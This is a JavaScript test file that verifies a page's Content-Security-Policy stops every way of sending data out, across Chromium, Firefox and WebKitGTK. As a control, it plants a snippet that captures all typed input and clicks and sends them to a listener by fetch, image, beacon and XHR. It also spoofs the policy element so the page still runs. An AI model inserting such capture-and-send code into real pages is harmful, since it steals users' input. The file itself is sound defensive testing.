// Nothing leaves: a leak that is planted in the page is stopped by the page's policy and by nothing
// else; each way out is tried from inside; and the ways no policy can stop are not in the program.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { setTimeout as wait } from "node:timers/promises";
import { pathToFileURL } from "node:url";
import { until } from "./engine-parts.mjs";
import { fillIn } from "./engine-story.mjs";
import { ENGINES } from "./engines.mjs";
import { listen } from "./listeners.mjs";
import { PAGE_ADDRESS, PAGE_FILE } from "./open-page.mjs";
import { waysOutIn } from "./program-scan.mjs";
import { POLICED, UNPOLICED } from "./ways-out.mjs";

const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>\n/;
const PROGRAM = /(<script type="module" id="script"[^>]*>)([\s\S]*?)(<\/script>)/;

const page = readFileSync(PAGE_FILE, "utf8");
const [, , program] = PROGRAM.exec(page);
const [, later] = /<script type="text\/plain" id="later-script">([^<][\s\S]*?)<\/script>/.exec(
  page,
);

let folder;
before(() => {
  folder = mkdtempSync(join(tmpdir(), "egress-leaves-"));
});
after(() => rmSync(folder, { recursive: true }));

function written(name, html) {
  const path = join(folder, name);
  writeFileSync(path, html);
  return pathToFileURL(path).href;
}

/**
 * The page without its policy, and with a script before its own that shows it one: it does not start
 * otherwise.
 */
const withoutPolicy = (html) => {
  const [meta] = POLICY.exec(html);
  const pretence = `<script>{
    const shown = document.createElement("div");
    shown.innerHTML = ${JSON.stringify(meta.trim())};
    const policy = shown.firstChild;
    Object.defineProperty(policy, "parentNode", { value: document.head });
    policy.compareDocumentPosition = () => Node.DOCUMENT_POSITION_FOLLOWING;
    const real = document.getElementById;
    document.getElementById = (id) => id === "policy" ? policy : real.call(document, id);
  }</script>`;
  return html.replace(POLICY, () => pretence);
};

const hashOf = (text) => createHash("sha256").update(text).digest("base64");

/** The page with more in its program, under a policy that allows that program. */
function planted(more) {
  const changed = `${program}\n${more}`;
  const html = page.replace(PROGRAM, (_, open, __, close) => `${open}${changed}${close}`);
  assert.ok(html.includes(hashOf(program)));
  return html.replace(hashOf(program), hashOf(changed));
}

/** Sends whatever is typed or pressed to a listener, in every way that takes one line. */
const leak = (host) => `
for (const kind of ["input", "change", "click"]) {
  addEventListener(kind, ({ target }) => {
    const text = encodeURIComponent(target.value ?? target.textContent);
    const address = "http://${host}/leak?" + text;
    fetch(address, { mode: "no-cors" }).catch(() => {});
    new Image().src = address;
    navigator.sendBeacon(address, text);
    const request = new XMLHttpRequest();
    request.open("GET", address);
    request.send();
  }, true);
}`;

const SECONDS_TO_SETTLE = 2;
const SECONDS_TO_BE_HEARD = 20;

for (const [name, start] of Object.entries(ENGINES)) {
  test(`${name}: a planted leak is heard without the policy, and not with it`, {
    timeout: 180_000,
  }, async () => {
    const engine = await start();
    const listener = await listen();
    try {
      const leaking = planted(leak(listener.host));
      const control = await engine.open(written(`${name}-control.html`, withoutPolicy(leaking)));
      await fillIn(control);
      const heard = () => listener.heard.map(({ bytes }) => bytes).join("\n");
      await until("the leak in the control", () =>
        heard().includes(encodeURIComponent("某某零售（北京）有限公司")),
      );
      await control.close();
      await wait(SECONDS_TO_SETTLE * 1000);

      listener.heard.length = 0;
      await fillIn(await engine.open(written(`${name}-leaking.html`, leaking)));
      await wait(SECONDS_TO_SETTLE * 1000);
      assert.deepEqual(listener.heard, []);
    } finally {
      await engine.close();
      await listener.close();
    }
  });
}

/**
 * Takes ways out in a page, all at once or each in a fresh one, and says what was heard of each: after
 * a while, and where some are `expected`, not before they were heard or `SECONDS_TO_BE_HEARD` are over.
 */
async function take(engine, ways, address, { afresh, expected = [] }) {
  const listeners = {};
  let opened;
  for (const [way, code] of Object.entries(ways)) {
    if (afresh || opened === undefined) {
      opened = await engine.open(address);
    }
    const listener = await listen();
    listeners[way] = listener;
    await opened.run(`() => {
      try {
        Promise.resolve((${code})("${listener.host}")).catch(() => {});
      } catch {}
    }`);
    if (afresh) {
      await wait(1000);
    }
  }
  await wait(SECONDS_TO_SETTLE * 1000);
  const isAwaited = (way) => !isSent(listeners[way].heard.map(({ bytes }) => bytes));
  for (let second = 0; second < SECONDS_TO_BE_HEARD && expected.some(isAwaited); second += 1) {
    await wait(1000);
  }
  const heard = {};
  for (const [way, listener] of Object.entries(listeners)) {
    heard[way] = listener.heard.map(({ bytes }) => bytes);
    await listener.close();
  }
  return heard;
}

const namesOf = (heard, wanted) => Object.keys(heard).filter((way) => wanted(heard[way]));
const isSent = (texts) => texts.some((bytes) => bytes !== "");
const isAnything = (texts) => texts.length > 0;

/** The ways that this browser does not take even without a policy, at least from a local file. */
const NOT_TAKEN = {
  Chromium: ["background in a style", "manifest link", "shared worker"],
  Firefox: ["<a ping>", "manifest link", "prefetch link"],
  WebKitGTK: ["icon link", "manifest link", "prefetch link"],
};
/** The ways that make this browser connect, and send nothing, before it reads the policy. */
const CONNECTS = { Chromium: ["form", "frame"], Firefox: [], WebKitGTK: [] };

for (const [name, start] of Object.entries(ENGINES)) {
  test(`${name}: the policy stops every way out that a policy can stop`, {
    timeout: 180_000,
  }, async () => {
    const engine = await start();
    try {
      const control = written(`${name}-open.html`, withoutPolicy(page));
      const taken = Object.keys(POLICED).filter((way) => !NOT_TAKEN[name].includes(way));
      const without = await take(engine, POLICED, control, { afresh: false, expected: taken });
      const silent = namesOf(without, (texts) => !isSent(texts));
      assert.deepEqual(
        silent.filter((way) => taken.includes(way)),
        [],
        "not heard without a policy, so nothing is proved",
      );
      const heard = await take(engine, POLICED, PAGE_ADDRESS, { afresh: false });
      assert.ok(Object.keys(heard).length > 30);
      assert.deepEqual(namesOf(heard, isSent), []);
      assert.deepEqual(
        namesOf(heard, isAnything).filter((way) => !CONNECTS[name].includes(way)),
        [],
      );
    } finally {
      await engine.close();
    }
  });
}

test("Chromium: what the policy does not stop is what docs/trust.md says", {
  timeout: 180_000,
}, async () => {
  const engine = await ENGINES.Chromium();
  try {
    const heard = await take(engine, UNPOLICED, PAGE_ADDRESS, { afresh: true });
    assert.deepEqual(namesOf(heard, isSent).sort(), [
      "WebRTC",
      "another window",
      "meta refresh",
      "navigation",
    ]);
  } finally {
    await engine.close();
  }
});

test("the program takes none of the ways that a policy does not stop", () => {
  for (const script of [program, later]) {
    assert.ok(script.length > 50_000);
    assert.deepEqual(waysOutIn(script), []);
  }
  for (const [way, code] of Object.entries(UNPOLICED)) {
    assert.notDeepEqual(waysOutIn(code), [], `${way} would not be found`);
  }
});
